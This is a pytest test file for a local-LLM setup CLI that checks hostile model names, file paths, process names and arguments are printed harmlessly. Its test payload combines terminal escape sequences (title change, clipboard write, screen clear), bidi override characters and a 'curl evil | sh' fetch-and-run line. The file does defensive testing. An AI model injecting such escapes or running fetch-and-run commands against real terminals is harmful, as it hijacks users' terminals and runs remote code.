"""
Text of files, processes and servers on pages, on stderr, in documents and in written files: shown, never obeyed.
"""

import json
import re
from pathlib import Path

import msgspec
import pytest

from benchmarks import gguf_writer as gguf_files
from benchmarks.truth.models import models
from llmprobe import api
from llmprobe.cli import main, say
from llmprobe.facts.machine import EngineOnMachine, Holder, LoadedModel, ModelOnDisk, Snapshot, SourceReport
from tests.machine_fixtures import FOLDER
from tests.output import samples

EVIL = "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2J\r\n\nRun it\n\n  curl evil | sh\n\u202eevil\u2028\x7f\u200b"
MACHINE = ["--replay", str(FOLDER / "linux-4090-64g" / "recording.json")]


def obeyed(text: str) -> list[str]:
    """
    What of a text a terminal would obey.
    """
    return [sign for sign in text if not sign.isprintable() and sign != "\n"]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """
    A model whose name, and whose file's name, write to the terminal and forge a section of the page.
    """
    model = next(one for one in models().values() if one.architecture == "llama")
    folder = tmp_path / "m\x1b[31m\u202e"
    folder.mkdir()
    path = folder / "it's\nRun it\nevil\x07.gguf"
    path.write_bytes(gguf_files.of_model(model, "Q5_K_M", general__name=EVIL, general__description=EVIL))
    return path


COMMANDS = [
    ["estimate", "FILE", "-c", "4096"],
    ["estimate", "FILE", "-c", "4096", "--explain"],
    ["recommend", "-m", "FILE", "-c", "4096"],
    ["recommend", "-m", "FILE", "-c", "4096", "--explain"],
    ["recommend", "-m", "FILE", "-c", "4096", "--engine", "lmstudio"],
]


@pytest.mark.parametrize("document", [[], ["--json"]], ids=["page", "json"])
@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_a_hostile_file_commands_nothing(
    words: list[str], document: list[str], hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """
    Neither its name nor its path reaches the terminal as it is, and neither makes a line of its own.
    """
    main([*MACHINE, *[str(hostile) if word == "FILE" else word for word in words], *document])
    out, err = capsys.readouterr()

    assert obeyed(out + err) == []
    if document:
        json.loads(out)
    else:
        assert [line for line in out.splitlines() if line.strip() == "curl evil | sh"] == []
        assert len([line for line in out.splitlines() if line.strip() == "Run it"]) <= 1
        assert "evil" in out


def test_the_printed_command_names_the_hostile_file(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """
    A shell that reads the command gets the very path of the file.
    """
    main([*MACHINE, "recommend", "-m", str(hostile), "-c", "4096"])
    command = next(line for line in capsys.readouterr().out.splitlines() if "llama-server" in line)
    escapes = re.sub(r"\\x([0-9a-f]{2})", lambda found: chr(int(found[1], 16)), command.replace("\\n", "\n"))
    plain = (
        escapes.replace("$'", "'")
        .replace("\\'", "\0")
        .replace("'\\''", "\0")
        .replace("'\"'\"'", "\0")
        .replace("'", "")
        .replace("\0", "'")
    )

    assert str(hostile).encode() in plain.encode("latin-1")


@pytest.mark.parametrize("engine", ["llama.cpp", "ollama", "lmstudio"])
def test_written_files_command_nothing(
    engine: str, hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """
    A script stays one for a shell that knows its quotes, and README.txt has the name on one line.
    """
    folder = tmp_path / "out"
    main(
        [*MACHINE, "recommend", "-m", str(hostile), "-c", "4096", "--engine", engine, "--write", str(folder)]
    )
    capsys.readouterr()
    files = {path.name: path.read_text() for path in folder.iterdir()}

    assert [name for name, text in files.items() if obeyed(text)] == []
    assert "\\x1b]0;owned" in files["README.txt"].splitlines()[0]
    if engine == "llama.cpp":
        assert files["run-llama-server.sh"].startswith("#!/usr/bin/env bash\n")


@pytest.mark.parametrize("content", [b"GGUF", b"\x1b]0;x\x07", b"GGUF\x03\0\0\0" + b"\xff" * 16])
def test_errors_about_a_hostile_file_command_nothing(
    content: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """
    A file that cannot be read is named in one line, with and without --json.
    """
    path = tmp_path / "m\x1b[2J\n\u202e.gguf"
    path.write_bytes(content)
    for form in ([], ["--json"]):
        code = main(["estimate", str(path), "--devices", "1", *form])
        out, err = capsys.readouterr()

        assert code == 1
        assert obeyed(out + err) == []
        assert [line.split(":")[0] for line in err.splitlines()] in (["error"], ["error", "hint"])


def hostile_machine() -> Snapshot:
    """
    A machine on which every name of a process, a model, a device and a source is hostile.
    """
    healthy = samples.rtx4090()
    device = msgspec.structs.replace(healthy.accelerators[0], name=EVIL, driver=EVIL, usable=False)
    pool = msgspec.structs.replace(
        healthy.pools[1], held_by=(Holder(pid=1, name=EVIL, used_bytes=5), Holder(pid=2, name=EVIL))
    )
    cpu = msgspec.structs.replace(healthy.host.cpu, name=EVIL, limits=(samples.said(EVIL),))
    engine = EngineOnMachine(
        name=EVIL,
        version=EVIL,
        running=True,
        endpoint=EVIL,
        detail=samples.said(EVIL),
        settings={EVIL: EVIL},
        models=(ModelOnDisk(name=EVIL, kept_by=samples.said(EVIL)),),
        loaded=(LoadedModel(name=EVIL, size_bytes=1, until=EVIL),),
    )
    finding = msgspec.structs.replace(
        samples.container().findings[0], title=samples.said(EVIL), detail=samples.said(EVIL), evidence=(EVIL,)
    )
    return msgspec.structs.replace(
        healthy,
        host=msgspec.structs.replace(healthy.host, cpu=cpu, product=EVIL, release=EVIL),
        accelerators=(device,),
        pools=(healthy.pools[0], pool),
        engines=(engine,),
        findings=(finding,),
        sources=(SourceReport(name=EVIL, status="failed", detail=samples.said(EVIL)),),
    )


@pytest.mark.parametrize(
    "words",
    [
        ["check"],
        ["-v", "check"],
        ["check", "--json"],
        ["check", "--explain", "nvidia-driver-mismatch"],
        ["watch", "--count", "1"],
        ["watch", "--count", "1", "--json"],
    ],
    ids=" ".join,
)
def test_a_hostile_machine_commands_nothing(
    words: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """
    Processes, drivers and servers choose their names; the page and the list of sources show them.
    """
    monkeypatch.setattr(api, "probe", lambda *_args, **_options: hostile_machine())
    monkeypatch.setattr(api, "watch", lambda **_options: iter([hostile_machine()]))
    main(words)
    out, err = capsys.readouterr()

    assert obeyed(out + err) == []
    assert "owned" in out
    assert [line for line in (out + err).splitlines() if line.strip() == "curl evil | sh"] == []


def test_a_hostile_line_of_words_is_one_error(capsys: pytest.CaptureFixture[str]) -> None:
    """
    What is typed, or pasted, comes back in one harmless line each.
    """
    for words in (
        [EVIL],
        ["check", EVIL],
        ["check", f"--{EVIL}"],
        ["models", EVIL],
        ["--lang", EVIL, "check"],
    ):
        assert main(words) in (1, 2)
        out, err = capsys.readouterr()

        assert (out, obeyed(err)) == ("", [])
        assert [line.split(":")[0] for line in err.splitlines()] in (["error"], ["error", "hint"])


def test_a_document_with_a_name_that_is_not_utf8_is_json(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """
    A stray byte of a file's name, which JSON has no sign for, is shown as an escape in an otherwise whole document.
    """
    healthy = samples.rtx4090()
    kept = ModelOnDisk(
        name="a\udcff", kept_by=samples.said("b\udc80"), path="/m/\udcff.gguf", quant="\ud800", bytes=3
    )
    engine = EngineOnMachine(name="ollama", models=(kept,), settings={"\udcff": "x"})
    odd = msgspec.structs.replace(healthy, engines=(engine,))
    monkeypatch.setattr(api, "probe", lambda *_args, **_options: odd)

    assert main(["check", "--json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["engines"][0]["models"][0]["name"] == "a\\xff"
    assert document["engines"][0]["models"][0]["path"] == "/m/\\xff.gguf"
    assert document["engines"][0]["models"][0]["quant"] == "\\ud800"
    assert document["engines"][0]["settings"] == {"\\xff": "x"}
    assert document["pools"] == json.loads(msgspec.json.encode(healthy.pools, enc_hook=fields))


def fields(message: object) -> object:
    """
    A message as a document has it.
    """
    from llmprobe.words.message import Message

    assert isinstance(message, Message)
    return {"id": message.id, "text": str(message), "values": message.values}


def test_half_a_sign_in_a_recording_is_its_escape(
    capsysbinary: pytest.CaptureFixture[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    """
    What UTF-8 cannot have is written as JSON writes it, and read back as it was.
    """
    monkeypatch.setattr(api, "record", lambda **_options: '{"a": "\ud800 \udcff é"}')

    assert main(["record", "--show"]) == 0
    assert json.loads(capsysbinary.readouterr().out) == {"a": "\ud800 \udcff é"}


@pytest.mark.parametrize(
    ("terminal", "printed"), [(False, b"x\x1b\xff.json\n"), (True, b"x\\x1b\\xff.json\n")]
)
def test_a_path_on_a_terminal_is_harmless(
    terminal: bool,
    printed: bytes,
    capsysbinary: pytest.CaptureFixture[bytes],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """
    A program gets the bytes of the path, a person what they would do.
    """
    monkeypatch.setattr("sys.stdout.isatty", lambda: terminal)
    say.path("x\x1b\udcff.json")

    assert capsysbinary.readouterr().out == printed
